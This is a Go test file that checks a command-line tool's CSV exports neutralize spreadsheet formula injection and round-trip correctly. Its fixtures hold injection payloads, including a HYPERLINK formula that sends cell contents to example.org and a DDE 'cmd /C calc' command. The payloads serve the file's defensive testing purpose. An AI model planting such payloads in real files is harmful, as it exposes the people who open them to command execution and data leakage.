package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// formulaData writes the small dataset with spreadsheet formulas in its
// titles and summaries and returns its path.
func formulaData(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("testdata/small.json")
	if err != nil {
		t.Fatal(err)
	}
	var d map[string]any
	if err := json.Unmarshal(b, &d); err != nil {
		t.Fatal(err)
	}
	d["title"] = `=HYPERLINK("https://example.org/?"&A1,"Click")`
	for i, e := range d["events"].([]any) {
		ev := e.(map[string]any)
		ev["title"] = []string{"+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=quoted"}[i%4]
		ev["summary"] = "=1+1"
	}
	out, _ := json.Marshal(d)
	p := filepath.Join(t.TempDir(), "formulas.json")
	if err := os.WriteFile(p, out, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// formulaCells returns the cells of a CSV text that a spreadsheet would
// evaluate.
func formulaCells(t *testing.T, text string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(text))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, rec := range recs {
		for _, c := range rec {
			negative := len(c) > 1 && c[0] == '-' && strings.Trim(c[1:], "0123456789") == ""
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !negative {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

// TestExportCSVFormulas: both CSV exports neutralize formulas, read back
// as the same dataset, and --csv-raw writes them as they are.
func TestExportCSVFormulas(t *testing.T) {
	data := formulaData(t)
	_, want, _ := runCLI(t, "", "export", "--data", data)
	for _, format := range []string{"csv", "timelinejs-csv"} {
		code, out, stderr := runCLI(t, "", "export", "--data", data, "--format", format)
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", format, code, stderr)
		}
		if bad := formulaCells(t, out); len(bad) > 0 {
			t.Errorf("%s: cells a spreadsheet evaluates: %q", format, bad)
		}
		code, out, stderr = runCLI(t, "", "export", "--data", data, "--format", format, "--csv-raw")
		if code != 0 {
			t.Fatalf("%s --csv-raw: exit %d: %s", format, code, stderr)
		}
		if bad := formulaCells(t, out); len(bad) < 5 {
			t.Errorf("%s --csv-raw: formula cells %q, want them all as written", format, bad)
		}
	}
	// Our CSV round-trips exactly.
	csvFile := filepath.Join(t.TempDir(), "f.csv")
	if code, _, stderr := runCLI(t, "", "export", "--data", data, "--format", "csv", "-o", csvFile); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	_, got, stderr := runCLI(t, "", "export", "--data", csvFile)
	if got != want {
		t.Errorf("the CSV export read back differs from the dataset (%s):\n%s\nwant\n%s", stderr, got, want)
	}
}
